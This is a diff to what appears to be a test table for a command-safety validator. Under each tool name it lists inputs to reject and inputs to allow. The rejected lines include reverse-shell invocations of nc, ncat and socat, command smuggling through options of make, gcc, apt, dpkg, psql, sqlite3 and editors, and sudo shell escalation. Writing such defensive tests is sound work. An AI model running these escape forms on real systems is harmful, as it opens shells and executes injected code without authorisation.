@@ -199,6 +199,9 @@ tcpdump
     - tcpdump -z x ¦ tcpdump -w x
     + tcpdump -i eth0
 make
+    - make SHELL=/tmp/x all ¦ make -f /dev/stdin ¦ make -f - all ¦ make -f- ¦ make --makefile=/proc/self/fd/0
+    - make MAKEFLAGS=--eval=x ¦ make 'X!=id' ¦ make 'X=$(shell id)' ¦ make .SHELLFLAGS=x
+    + make shell ¦ make SHELLCHECK=1 lint ¦ make -f Makefile.dev build ¦ make CC=clang all
     - make --eval=x ¦ make --eva x ¦ make -E x
     + make test ¦ make -j4 ¦ make -C d -f Other.mk
 go
@@ -247,14 +250,130 @@ readarray
     - readarray -C x a
     + readarray -t a
 psql
+    - psql -c "COPY t FROM PROGRAM 'id'"
+    + psql -c 'select program from t'
     - psql -o x ¦ psql -f x ¦ psql -c '\! rm'
     + psql -c 'select 1'
 sqlite3
+    - sqlite3 db '.sh id' ¦ sqlite3 db '.o f' ¦ sqlite3 db ".read '|id'" ¦ sqlite3 db 'select 1;⏎.shell id'
+    + sqlite3 db 'select a.shell, t.log, r.output from t' ¦ sqlite3 ./x.db .indexes ¦ sqlite3 db .dump
     - sqlite3 d '.shell rm' ¦ sqlite3 d '.output x' ¦ sqlite3 -init f d
     + sqlite3 d 'select 1'
 mysql
-    - mysql -e '\! rm' ¦ mysql --pager=x
+    - mysql -e '\! rm' ¦ mysql --pager=x ¦ mysql -e "select 1 INTO OUTFILE '/x'"
     + mysql -e 'select 1'
+vimdiff
+    - vimdiff -c '!id' a b ¦ vimdiff +x a b
+    + vimdiff a b
+gvimdiff
+    - gvimdiff -c x a b
+    + gvimdiff a b
+nvimdiff
+    - nvimdiff -c x a b
+    + nvimdiff a b
+gvim
+    - gvim -c '!id' f
+    + gvim f
+gview
+    - gview -c x f
+    + gview f
+rvim
+    - rvim -S x f
+    + rvim f
+rview
+    - rview -c ':py3 1' f
+    + rview f
+gcc
+    - gcc -wrapper sh,-c,id x.c ¦ gcc -fplugin=x.so x.c ¦ gcc -B. x.c ¦ gcc -specs=x x.c ¦ gcc @args
+    + gcc -Wall -O2 -o x x.c ¦ gcc -Wl,-Bstatic x.c ¦ gcc -std=c11 -Iinclude -lm x.c ¦ gcc --version
+g++
+    - g++ -wrapper sh x.cc
+    + g++ -c x.cc
+cc
+    - cc -wrapper sh x.c
+    + cc -c x.c
+c++
+    - c++ -wrapper sh x.cc
+    + c++ -c x.cc
+clang
+    - clang -fplugin=x.so a.c ¦ clang -Xclang -load -Xclang x.so a.c ¦ clang -fuse-ld=/x a.c
+    + clang -c -O2 x.c ¦ clang -Xclang -ast-dump -fsyntax-only x.c ¦ clang -fuse-ld=lld x.c
+clang++
+    - clang++ -fpass-plugin=x a.cc
+    + clang++ -c a.cc
+emacsclient
+    - emacsclient -e '(x)' ¦ emacsclient --eval '(x)' ¦ emacsclient -a x f
+    + emacsclient -n f
+nano
+    - nano -s id f ¦ nano --speller=id f
+    + nano f ¦ nano +3 f
+nc
+    - nc -e /bin/sh h 1 ¦ nc h 1 -e /bin/sh ¦ nc -c sh h 1 ¦ nc -lve sh
+    + nc -zv localhost 80 ¦ nc -l -p 80 ¦ nc -w 3 h 1 ¦ nc -U /s
+netcat
+    - netcat -e sh h 1
+    + netcat -zv h 1
+ncat
+    - ncat --exec sh h 1 ¦ ncat --sh-exec id h 1 ¦ ncat --lua-exec x h 1 ¦ ncat -o f h 1
+    + ncat --ssl h 443 ¦ ncat -l 80
+socat
+    - socat TCP:h:1 EXEC:sh ¦ socat - sYsTem:id ¦ socat -u TCP:h:1 OPEN:f,creat ¦ socat - 'STDIN!!EXEC:id'
+    - socat - CREATE:f ¦ socat - ./f ¦ socat -r f - TCP:h:1 ¦ socat - SHELL:id
+    + socat TCP-LISTEN:80,fork TCP:h:81 ¦ socat - TCP:h:80 ¦ socat - OPENSSL:h:443,verify=0
+ssh-keygen
+    - ssh-keygen -D ./x.so ¦ ssh-keygen -w x
+    + ssh-keygen -lf k.pub ¦ ssh-keygen -t ed25519 -C a -f k -N ''
+ssh-add
+    - ssh-add -s ./x.so
+    + ssh-add -l
+sudo
+    - sudo -s ¦ sudo -i ¦ sudo --login ¦ sudo -u root -s ¦ sudo -e f ¦ sudo rm x
+    + sudo -l ¦ sudo -n echo -s x ¦ sudo -u root cat -e f
+apt
+    - apt -o APT::Update::Pre-Invoke::=id update ¦ apt -c f update
+    + apt list ¦ apt install -y x
+apt-get
+    - apt-get update -o APT::Update::Pre-Invoke::=id
+    + apt-get install -y --no-install-recommends x ¦ apt-get -qq update
+dpkg
+    - dpkg --pre-invoke=id -i x.deb
+    + dpkg -l ¦ dpkg --get-selections
+nmap
+    - nmap --script=x h ¦ nmap -oN f h ¦ nmap -oA f h
+    + nmap -sV -p 80 h ¦ nmap -O h
+aria2c
+    - aria2c --on-download-complete=x u
+    + aria2c u
+yt-dlp
+    - yt-dlp --exec id u ¦ yt-dlp --exec-before-download id u
+    + yt-dlp -F u
+fzf
+    - fzf --preview id ¦ fzf --bind 'enter:execute(id)'
+    + fzf --filter x
+pandoc
+    - pandoc -F x a.md ¦ pandoc --lua-filter=x a.md ¦ pandoc --pdf-engine=x a.md
+    + pandoc -f markdown -t html a.md ¦ pandoc --file-scope a b
+lldb
+    - lldb -o 'platform shell id' ¦ lldb -s f
+    + lldb ./a ¦ lldb -p 1
+svn
+    - svn --config-option x diff ¦ svn diff --diff-cmd id
+    + svn status ¦ svn log -l 3
+hg
+    - hg --config alias.x='!id' x
+    + hg status ¦ hg commit -m 'x' ¦ hg config
+delta
+    - delta --pager x a b
+    + delta a b
+dc
+    - dc -e '!id'
+    + dc -e '1 2 + p'
+cpio
+    - cpio -o --rsh-command=id -F h:f
+    + cpio -it
+gmake
+    - gmake --eval='x:;id' ¦ gmake SHELL=/x
+    + gmake all
 """
 
 
